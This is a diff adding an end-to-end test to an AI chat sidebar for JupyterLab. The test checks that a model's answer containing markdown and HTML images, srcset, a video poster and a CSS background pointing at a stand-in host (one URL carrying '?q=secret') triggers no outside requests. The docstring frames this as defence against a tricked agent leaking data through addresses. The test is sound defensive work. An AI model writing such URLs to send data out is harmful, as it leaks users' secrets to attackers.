@@ -175,6 +175,27 @@ def test_an_answer_is_streamed_stopped_and_asked_again(
     sidebar.theme("JupyterLab Light")  # the server keeps it
 
 
+def test_an_answer_loads_nothing_from_elsewhere(sidebar: Sidebar, lab: Lab, model: MessagesServer) -> None:
+    """An address can carry away what the agent was tricked into writing there."""
+    panel, asked = sidebar.panel, []
+    sidebar.page.on("request", lambda request: asked.append(request.url))
+    away = "http://elsewhere.invalid"
+    model.turns += [
+        says(
+            f"![a curve]({away}/1.png?q=secret) and ![ours](/static/favicons/favicon.ico)\n\n"
+            f'<img srcset="{away}/2.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="> '
+            f'<video poster="{away}/3.png" src="{away}/4.mp4"></video> '
+            f'<p style="background-image: url({away}/5.png)">All of it.</p>'
+        )
+    ]
+    sidebar.command("wavebook:new-conversation")
+    sidebar.ask("Show me the curve")
+    expect(panel.get_by_text("All of it.", exact=True)).to_be_visible(timeout=ANSWER)
+    expect(panel.get_by_role("link", name="a curve")).to_have_attribute("href", f"{away}/1.png?q=secret")
+    expect(panel.get_by_role("img", name="ours")).to_be_visible()
+    assert [url for url in asked if not url.startswith((lab.address, "data:", "blob:"))] == []
+
+
 def test_what_is_written_during_an_answer_is_not_lost(sidebar: Sidebar, model: MessagesServer) -> None:
     panel = sidebar.panel
     stop = panel.locator(".jp-chat-input-toolbar").get_by_role("button", name="Stop")
